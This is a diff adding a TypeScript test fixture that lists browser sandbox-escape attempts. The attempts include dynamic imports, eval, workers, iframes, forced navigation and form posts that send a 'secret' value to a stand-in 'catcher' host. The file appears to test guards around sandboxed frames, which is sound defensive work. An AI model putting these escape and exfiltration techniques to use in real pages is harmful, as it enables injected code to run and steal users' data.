@@ -1,0 +1,201 @@
+import { type Attack, click, element, html, LEFT, use, wait } from './attack';
+
+/** Attacks that bring in other code. */
+export const scripts: readonly Attack[] = [
+  { name: 'dynamic import of another site', code: `await import(catcher + '/module.mjs'); out('imported')` },
+  {
+    name: 'dynamic import of a data address',
+    code: `await import('data:text/javascript,console.info("attack out [NAME] import of data")')`,
+  },
+  {
+    name: 'module that nobody guards, by a blob address',
+    code: `await import(URL.createObjectURL(new Blob(['console.info("attack out [NAME] import of a blob")'], { type: 'text/javascript' })))`,
+  },
+  { name: 'script element of another site', code: element('script', `{ src: catcher + '/script.js' }`) },
+  {
+    name: 'inline script',
+    code: element('script', `{ textContent: 'console.info("attack out [NAME] inline script")' }`),
+  },
+  {
+    name: 'event handler in HTML',
+    code: html(`<img src="data:," onerror="console.info('attack out [NAME] handler')">`),
+  },
+  {
+    name: 'written document',
+    neverOut: 'seen to get out on a quiet machine only',
+    alone: 'always',
+    code: `document.write('<script src="' + catcher + '/written.js"></' + 'script>'); ${wait}`,
+  },
+  { name: 'eval', code: `(0, eval)('console.info("attack out [NAME] eval")')` },
+  { name: 'Function', code: `new Function('console.info("attack out [NAME] Function")')()` },
+  {
+    name: 'constructor of a function',
+    code: `(async () => {}).constructor('console.info("attack out [NAME] constructor")')()`,
+  },
+  { name: 'text for a timer', code: `setTimeout('console.info("attack out [NAME] timer")', 0); ${wait}` },
+  {
+    name: 'WebAssembly',
+    code: `await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); out('compiled')`,
+  },
+  {
+    name: 'javascript: address',
+    alone: 'to-succeed',
+    code: `location.href = 'javascript:console.info("attack out [NAME] address")'; ${wait}`,
+  },
+  {
+    name: 'worker of a blob, of data, of another site',
+    code: `for (const address of ['data:text/javascript,postMessage(1)', catcher + '/worker.js', location.href]) {
+        const worker = new Worker(address);
+        worker.onmessage = () => out('worker ran');
+      } ${wait}`,
+  },
+  {
+    name: 'shared worker',
+    neverOut: 'seen to get out on a quiet machine only',
+    code: `const worker = new SharedWorker('data:text/javascript,onconnect=(event)=>event.ports[0].postMessage(1)');
+      worker.port.onmessage = () => out('shared worker ran'); worker.port.start(); ${wait}`,
+  },
+  {
+    name: 'service worker',
+    code: `await navigator.serviceWorker.register('/runner/none.js').catch((error) => { if (/404|bad HTTP/.test(error.message)) out('asked for'); throw error; })`,
+  },
+  {
+    name: 'worklet',
+    code: `await CSS.paintWorklet.addModule(catcher + '/worklet.js'); ${wait}`,
+    neverOut: 'the tests run without a paint worklet',
+  },
+  {
+    name: 'base address',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    alone: 'always',
+    code: `${html(`<base href="\${catcher}/">`)} new Image().src = 'based'; ${wait}`,
+  },
+];
+
+/** Attacks that leave the frame, open others or reach the reader. */
+export const frames: readonly Attack[] = [
+  {
+    name: 'frame of another site',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: html(`<iframe src="\${catcher}/frame"></iframe>`),
+  },
+  {
+    name: 'frame with its own document',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: html(
+      `<iframe srcdoc="<script src='\${catcher}/srcdoc.js'></script><img src='\${catcher}/srcdoc'>"></iframe>`,
+    ),
+  },
+  {
+    name: 'object and embed',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: html(`<object data="\${catcher}/object"></object><embed src="\${catcher}/embed">`),
+  },
+  {
+    name: 'leaves with data in the address',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: `location.href = catcher + '/leave?secret'; ${wait}`,
+    ends: LEFT,
+  },
+  {
+    name: 'leaves by replace',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: `location.replace(catcher + '/replace?secret'); ${wait}`,
+    ends: LEFT,
+  },
+  {
+    name: 'leaves by a refresh in the page',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: html(`<meta http-equiv="refresh" content="0; url=\${catcher}/refresh">`) + wait,
+    ends: LEFT,
+  },
+  {
+    name: 'leaves by a link',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: click(`<a href="\${catcher}/link">a</a>`),
+    ends: LEFT,
+  },
+  {
+    name: 'leaves for a data address',
+    code: `location.href = 'data:text/html,<img src=' + catcher + '/data>'; ${wait}`,
+    ends: LEFT,
+    neverOut: 'a picture in a data page is left to the browser',
+  },
+  {
+    name: 'leaves for a page of this site',
+    neverOut: 'not seen to get out here: the policies of the site hold frames without our guards too',
+    code: `location.href = '/user-guide?secret'; ${wait} ${wait}`,
+    ends: LEFT,
+  },
+  {
+    name: 'takes the top page along',
+    alone: 'to-succeed',
+    code: `top.location.href = catcher + '/top'; ${wait}`,
+  },
+  {
+    name: 'takes the top page along by replace',
+    alone: 'to-succeed',
+    code: `parent.location.replace(catcher + '/parent'); ${wait}`,
+  },
+  {
+    name: 'takes the top page along by a link',
+    alone: 'to-succeed',
+    code: click(`<a href="\${catcher}/top-link" target="_top">a</a>`),
+  },
+  {
+    name: 'takes the top page along by a form',
+    alone: 'to-succeed',
+    code: use(`<form action="\${catcher}/top-form" target="_top"></form>`, 'submit'),
+  },
+  { name: 'goes back in the history of the page', alone: 'always', code: `history.back(); ${wait}` },
+  {
+    name: 'opens a window',
+    alone: 'to-succeed',
+    code: `if (window.open(catcher + '/window')) out('opened'); ${wait}`,
+  },
+  {
+    name: 'opens a window by a link',
+    alone: 'to-succeed',
+    code: click(`<a href="\${catcher}/blank" target="_blank" rel="opener">a</a>`),
+  },
+  {
+    name: 'opens a window by a form',
+    alone: 'to-succeed',
+    code: use(
+      `<form action="\${catcher}/form" method="post" target="_blank"><input name="secret" value="1"></form>`,
+      'submit',
+    ),
+  },
+  {
+    name: 'sends a form',
+    neverOut: 'not seen to get out here',
+    alone: 'to-succeed',
+    code: use(
+      `<form action="\${catcher}/send" method="post"><input name="secret" value="1"></form>`,
+      'requestSubmit',
+    ),
+  },
+  {
+    name: 'saves a file on the disk',
+    alone: 'to-succeed',
+    code: click(`<a href="data:text/plain,attack" download="attack.txt">a</a>`),
+  },
+  {
+    name: 'asks the reader by a dialog',
+    alone: 'to-succeed',
+    code: `alert('attack'); confirm('attack'); prompt('attack'); print(); out('asked')`,
+  },
+  {
+    name: 'takes the focus',
+    alone: 'always',
+    neverOut: 'the page removes a frame that has it: see the test of that',
+    code: `${html('<input autofocus required><dialog><input></dialog>')} focus(); document.querySelector('input').focus?.();
+      document.querySelector('input').reportValidity(); document.querySelector('dialog').showModal(); ${wait} ${wait}
+      if (document.hasFocus()) out('focused')`,
+  },
+  {
+    name: 'takes the screen and the pointer',
+    code: `await document.documentElement.requestFullscreen(); out('full screen')`,
+    neverOut: 'nobody has clicked',
+  },
+];
